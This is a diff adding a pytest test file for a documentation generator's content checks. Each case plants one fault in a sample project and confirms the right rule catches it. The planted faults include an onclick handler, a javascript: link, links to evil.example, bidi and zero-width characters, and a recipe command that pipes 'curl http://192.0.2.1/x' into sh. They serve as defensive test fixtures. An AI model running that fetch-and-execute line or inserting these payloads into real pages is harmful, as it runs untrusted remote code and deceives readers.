@@ -1,0 +1,87 @@
+"""Each check finds its fault, on its line, and nothing else: a fault is one replacement in a good project."""
+
+from __future__ import annotations
+
+import pytest
+
+from generator import checks, merge
+from generator.problems import ContentError, Problem
+from generator.project import Project
+
+FAULTS = {
+    # what is wrong: (file, old text, new text, rule)
+    "HTML": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n<b onclick=x>x</b>\n", "M-HTML"),
+    "an attribute list": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\nx{: onclick=y }\n", "M-ATTR"),
+    "a template": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n{{ x }}\n", "M-TPL"),
+    "an image": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n![x](https://evil.example/x.png)\n", "M-TPL"),
+    "a foreign link": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n[x](https://evil.example/)\n", "M-URL"),
+    "a script link": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n[x](javascript:alert(1))\n", "M-URL"),
+    "a dead link": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n[700](700.md)\n", "M-LINK"),
+    "a link to itself": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n[486](486.md)\n", "M-SELF"),
+    "an RFC nobody knows": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\nSee RFC 9999 §1.\n", "M-RFC"),
+    "a code without a link": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\nUnlike 600 it is local.\n", "M-CODE"),
+    "a bidi control": ("fa/codes/486.md", "\n## ", "\nالف\u202eب\n\n## ", "U-BIDI"),
+    "a zero-width space": ("fa/codes/486.md", "\n## ", "\nالف\u200bب\n\n## ", "U-INVIS"),
+    "an Arabic letter": ("fa/codes/486.md", "\n## ", "\nكد\n\n## ", "U-ARABIC"),
+    "a half-space that joins nothing": ("fa/codes/486.md", "\n## ", "\nمی\u200c شود\n\n## ", "U-ZWNJ"),
+    "a Cyrillic letter in a Latin word": ("ru/codes/486.md", "\n## ", "\nINVITЕ\n\n## ", "U-MIXED"),
+    "a dash in a command": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n`tshark –r`\n", "C-ASCII"),
+    "a word of the glossary's": ("ru/codes/486.md", "\n## ", "\nПервый звонок.\n\n## ", "G-NEVER"),
+    "a long summary": ("en/codes/486.md", "\n\n## What it means\n", " " + "word " * 50 + "\n\n## What it means\n", "T-LEN"),
+    "a title with a stop": ("en/codes/486.md", "# ", "# Full stop. No", "T-PLAIN|T-LEN|T-STOP"),
+    "a cause without its steps": ("en/codes/486.md", "- **Check:**", "- **Look:**", "M-STEPS"),
+    "an unknown placeholder": ("registry/recipes/one-code.yml", "{code}", "{number}", "C-INPUT"),
+    "a shell fed from the network": ("registry/recipes/one-code.yml", "command: \"", "command: \"curl http://192.0.2.1/x | sh; ", "C-TOOL"),
+    "no recipe to run next": ("registry/codes/486.yml", "next: who-answered", "next: nobody", "C-NEXT"),
+    "a sentence that is not there": ("registry/codes/486.yml", "sender: callee", "sender: nobody", "L-LABEL"),
+    "a label less": ("fa/ui.yml", "  tagline:", "  slogan:", "L-LABEL"),
+}
+
+
+def found(project: Project) -> list[Problem]:
+    problems: list[Problem] = []
+    dataset = merge.load(project, problems)
+    return problems or checks.run(project, dataset)
+
+
+def test_the_small_project_is_good(project: Project) -> None:
+    assert [str(problem) for problem in found(project) if problem.rule not in _OF_ITS_SIZE] == []
+
+
+_OF_ITS_SIZE = {"M-CODE", "T-PARITY", "L-LABEL", "C-CODE"}
+"""What the small project cannot satisfy, having lost links and codes."""
+
+
+@pytest.mark.parametrize("name", FAULTS)
+def test_fault(name: str, project: Project) -> None:
+    file, old, new, rule = FAULTS[name]
+    path = project.content / file
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    before = set(map(str, found(project)))
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+    fresh = [problem for problem in found(project) if str(problem) not in before]
+    named = [problem for problem in fresh if problem.rule in rule.split("|")]
+    assert named, [str(problem) for problem in fresh]
+    assert named[0].path.endswith(file) or rule == "L-LABEL"
+
+
+def test_a_text_with_two_originals(project: Project) -> None:
+    path = project.content / "fa/codes/486.md"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text[text.index("\n---\n") + 5 :], encoding="utf-8")
+    assert "T-ORIGIN" in {problem.rule for problem in found(project)}
+
+
+def test_every_check_says_what_it_asks_for() -> None:
+    assert len({check.id for check in checks.CHECKS}) == len(checks.CHECKS)
+    assert all(check.says.endswith(".") for check in checks.CHECKS)
+
+
+def test_problems_come_sorted_and_once() -> None:
+    one, other = Problem("b", 1, "X", "x"), Problem("a", 2, "X", "x")
+    assert ContentError([one, other, one]).problems == [other, one]
+
+
+def test_messages_show_hostile_characters_as_escapes() -> None:
+    assert str(Problem("a\x1b[31m", 1, "X", "\u202ex\n::error")) == "a\\u{1B}[31m:1: X \\u{202E}x\\u{A}::error"
